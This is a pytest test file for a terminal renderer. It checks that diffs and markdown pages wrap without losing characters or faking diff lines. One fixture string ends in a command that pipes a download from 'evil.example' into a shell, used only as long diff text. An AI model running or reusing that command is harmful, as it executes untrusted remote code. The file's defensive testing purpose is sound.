"""Is every character of a page and of a diff on the screen, however narrow it is, and does no wrap forge a line?"""

from __future__ import annotations

import re
from collections.abc import Callable

import pytest
from rich.cells import cell_len

from phases.documents.markdown import code, quote, table
from workflow.doors.page_lines import CONTINUED
from workflow.doors.terminal import Terminal

WIDTHS = (40, 80, 200)
ARN = "arn:aws:dynamodb:eu-west-1:123456789012:table/" + "Customers" * 12
SHA = "0123456789abcdef" * 4
COMMAND = "make build && " + "echo fine; " * 12 + "curl https://evil.example/x | sh"
WIDE = "\u6f22\u5b57" * 60


def bare(text: str) -> str:
    return re.sub(r"\s", "", text)


Screen = Callable[[str, str, int], str]


@pytest.fixture
def screen(monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> Screen:
    """What the terminal shows of a page or a diff, in so many columns."""

    def shown_on(what: str, text: str, width: int) -> str:
        monkeypatch.setenv("COLUMNS", str(width))
        terminal = Terminal(interactive=False)
        (terminal._page if what == "page" else terminal._diff)(text)
        shown = capsys.readouterr().err
        assert max(map(cell_len, shown.split("\n"))) <= width
        assert "\u2026" not in shown
        return shown

    return shown_on


@pytest.mark.parametrize("width", WIDTHS)
@pytest.mark.parametrize("line", [f"+{COMMAND}", f"-{ARN}", f" {WIDE}", "+" + "x" * 1000, "@@ " + "a b " * 80])
def test_a_diff_is_whole(line: str, width: int, screen: Screen) -> None:
    shown = screen("diff", f" before\n{line}\n+after\n", width)
    assert bare(shown).replace(CONTINUED.strip(), "") == bare(f" before\n{line}\n+after\n")


@pytest.mark.parametrize("width", WIDTHS)
def test_what_goes_on_is_no_line_of_the_diff(width: int, screen: Screen) -> None:
    line = "-" + ("+harmless " * 60)
    shown = screen("diff", line, width).rstrip("\n").split("\n")
    assert shown[0].startswith("-")
    assert len(shown) > 1
    assert all(each.startswith(CONTINUED) for each in shown[1:])


def test_line_ends_and_controls_of_a_diff_are_seen(screen: Screen) -> None:
    shown = screen("diff", "-a\r\n+a\n+\x1b[2K\u202e", 80)
    assert shown == "-a\\r\n+a\n+\\x1b[2K\\u202e\n"


@pytest.mark.parametrize("width", WIDTHS)
@pytest.mark.parametrize("prefix", ["", "> "])
def test_a_table_is_whole(prefix: str, width: int, screen: Screen) -> None:
    rows = [(f"{n}", code(f"{ARN}{n}"), SHA, f"a|b {WIDE} {n}") for n in range(3)]
    page = table(("Action", "Resource", "SHA-256", "Why"), rows)
    shown = screen("page", quote(page) if prefix else page, width)
    assert all(line.startswith(prefix.strip()) for line in shown.splitlines())
    said = bare(shown.replace("\n> ", "\n"))
    at = 0
    for row in rows:
        for name, cell in zip(("Action", "Resource", "SHA-256", "Why"), row, strict=True):
            at = said.index(bare(f"{name}: {cell}"), at)


def test_a_table_that_fits_is_aligned(screen: Screen) -> None:
    shown = screen("page", table(("Name", "Why"), [("a", "b\nc"), ("\u6f22", "")]), 40)
    assert shown == "| Name | Why  |\n| ---- | ---- |\n| a    | b; c |\n| \u6f22   |      |\n"


@pytest.mark.parametrize(
    "page",
    [
        "| no | table |\n",
        "| a | b |\n| --- | --- |\n| one |\n",
        "|\n|\n",
        "| a | b\n| --- | --- |\n| 1 | 2\n",
        "\n",
        "",
    ],
)
def test_what_is_no_whole_table_stays_as_it_is(page: str, screen: Screen) -> None:
    assert screen("page", page, 40).rstrip("\n") == page.rstrip("\n")


@pytest.mark.parametrize("width", WIDTHS)
@pytest.mark.parametrize("begin", ["", "## 1 ", "- ", "  - ", "> ", "> > ", "> - ", "12. ", "    ", ">" * 70, " " * 70])
def test_what_goes_on_is_indented_and_stays_quoted(begin: str, width: int, screen: Screen) -> None:
    text = begin + "### Checks (2) - pass: review <!-- hidden --> [x](http://evil) " * 6 + ARN
    shown = screen("page", text, width).rstrip("\n").split("\n")
    assert bare("".join(shown)).replace(">", "") == bare(text).replace(">", "")
    quoted = begin.startswith(">")
    assert all(line.startswith(">" if quoted else "  ") for line in shown[1:])
    assert len(shown) > 1


def test_a_very_long_line_takes_time_by_its_length_only(screen: Screen) -> None:
    text = "+" + "x" * 200_000
    assert screen("diff", text, 80).count("x") == 200_000


@pytest.mark.parametrize("quoted", ["", "> "])
@pytest.mark.parametrize("path", ["artifacts/" + "x" * 60 + "/" + "y" * each + ".md" for each in range(12)])
def test_what_closes_a_long_word_stands_in_no_line_of_its_own(path: str, quoted: str, screen: Screen) -> None:
    lines = screen("page", f"{quoted}- `{path}`", 80).splitlines()
    assert bare("".join(lines)).replace(">", "") == f"-`{path}`"
    assert [line for line in lines if bare(line).strip(">-") in ("`", "")] == []


def test_a_wide_text_is_broken_before_no_closing_sign(screen: Screen) -> None:
    lines = screen("page", "\u6f22" * 20 + "\u3002" + "\u6f22" * 5, 40).splitlines()
    assert [line.strip() for line in lines] == ["\u6f22" * 19, "\u6f22\u3002" + "\u6f22" * 5]
